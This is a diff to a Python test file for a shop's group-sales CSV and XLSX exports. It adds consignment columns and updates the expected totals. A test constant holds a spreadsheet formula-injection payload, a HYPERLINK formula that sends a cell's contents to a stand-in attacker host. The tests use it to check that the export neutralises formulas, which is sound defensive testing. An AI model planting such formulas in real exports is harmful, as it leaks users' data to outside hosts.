@@ -16,6 +16,7 @@ from shop.extensions import db
 from shop.groups.models import Programme
 from shop.orders.models import OrderStatus, PaymentStatus
 from tests.factories import GroupFactory, ProductFactory
+from tests.functional.coordinators.test_monitoring import consign_recently
 from tests.functional.orders.conftest import make_order
 
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
@@ -46,6 +47,9 @@ def sales(group_in_scope, group_out_of_scope, evil_group):
     make_order(evil_group, created_at=recently(), lines=[("Abon", 1000, 1)])
     make_order(group_out_of_scope, created_at=recently(), lines=[("Dodol", 777000, 1)])
     ProductFactory(group=group_in_scope)
+    # Consignment: 4 units at Rp20,000 sold, Rp50,000 received; none elsewhere counts.
+    consign_recently(group_in_scope, 20000, 10, 4, 50000)
+    consign_recently(group_out_of_scope, 333000, 2, 1, 0)
 
 
 @pytest.fixture
@@ -75,19 +79,33 @@ def test_csv_has_a_bom_the_scope_only_and_no_formulas(
         "Revenue (Rp)",
         "Paid (Rp)",
         "Not paid yet (Rp)",
+        "Consignment sales (Rp)",
+        "Consignment units",
+        "Received from outlets (Rp)",
+        "Total sales (Rp)",
         "Items sold",
         "Active groups",
         "Active products",
         "Median time to confirm (hours)",
     ]
     by_name = {row[0]: row for row in rows[1:]}
-    mine = ["2", "80000", "50000", "30000", "5", "1", "1", "1.5"]
+    mine = ["2", "80000", "50000", "30000", "80000", "4", "50000", "160000", "5", "1", "1", "1.5"]
     assert by_name[group_in_scope.name] == [group_in_scope.name, *mine]
-    assert group_out_of_scope.name not in body and "777000" not in body
+    assert group_out_of_scope.name not in body and "777000" not in body and "333000" not in body
     # defusedcsv: the formula is kept as text behind a leading quote.
     assert "'" + EVIL in by_name
     assert EVIL not in by_name
-    assert rows[-1][:5] == ["Total", "3", "81000", "50000", "31000"]
+    assert rows[-1][:9] == [
+        "Total",
+        "3",
+        "81000",
+        "50000",
+        "31000",
+        "80000",
+        "4",
+        "50000",
+        "161000",
+    ]
 
     (entry,) = exports(AuditAction.EXPORT_CSV)
     assert "per=group" in entry.details and "dari=" in entry.details
@@ -110,17 +128,38 @@ def test_xlsx_numbers_formats_title_and_no_formulas(
     header = [cell.value for cell in sheet[5]]
     assert header[:3] == ["Group", "Orders", "Revenue (Rp)"]
     assert sheet.freeze_panes == "B6"
-    assert sheet.auto_filter.ref.startswith("A5:I")
+    assert sheet.auto_filter.ref.startswith("A5:M")
 
     rows = {row[0].value: row for row in sheet.iter_rows(min_row=6)}
     mine = rows[group_in_scope.name]
-    assert [c.value for c in mine] == [group_in_scope.name, 2, 80000, 50000, 30000, 5, 1, 1, 1.5]
-    assert all(isinstance(c.value, int) for c in mine[1:8])
-    assert mine[2].number_format == '"Rp"#,##0'
+    assert [c.value for c in mine] == [group_in_scope.name, 2, 80000, 50000, 30000] + [
+        80000, 4, 50000, 160000, 5, 1, 1, 1.5
+    ]  # fmt: skip
+    assert all(isinstance(c.value, int) for c in mine[1:12])
+    money_columns = [2, 3, 4, 5, 7, 8]
+    assert all(mine[i].number_format == '"Rp"#,##0' for i in money_columns)
+    assert mine[6].number_format == "#,##0"
+    assert [header[i] for i in (5, 6, 7, 8)] == [
+        "Consignment sales (Rp)",
+        "Consignment units",
+        "Received from outlets (Rp)",
+        "Total sales (Rp)",
+    ]
     evil = rows[EVIL]
     assert evil[0].data_type == "s" and evil[0].value == EVIL
     total = rows["Total"]
-    assert [c.value for c in total[:5]] == ["Total", 3, 81000, 50000, 31000]
+    assert [c.value for c in total[:9]] == [
+        "Total",
+        3,
+        81000,
+        50000,
+        31000,
+        80000,
+        4,
+        50000,
+        161000,
+    ]
+    assert all(total[i].number_format == '"Rp"#,##0' for i in money_columns)
     assert group_out_of_scope.name not in rows
 
     (entry,) = exports(AuditAction.EXPORT_XLSX)
@@ -141,5 +180,7 @@ def test_month_rows_leave_active_counts_empty(client, english_coordinator, sales
     sheet = load_workbook(io.BytesIO(response.data)).active
     rows = list(sheet.iter_rows(min_row=6, values_only=True))
     assert len(rows) == 13
-    assert all(row[6] is None and row[7] is None for row in rows[:-1])
-    assert rows[-1][0] == "Total" and rows[-1][6] == 1 and rows[-1][1] == 3
+    assert all(row[10] is None and row[11] is None for row in rows[:-1])
+    assert rows[-1][0] == "Total" and rows[-1][10] == 1 and rows[-1][1] == 3
+    assert rows[-1][5:9] == (80000, 4, 50000, 161000)
+    assert sum(row[5] for row in rows[:-1]) == 80000
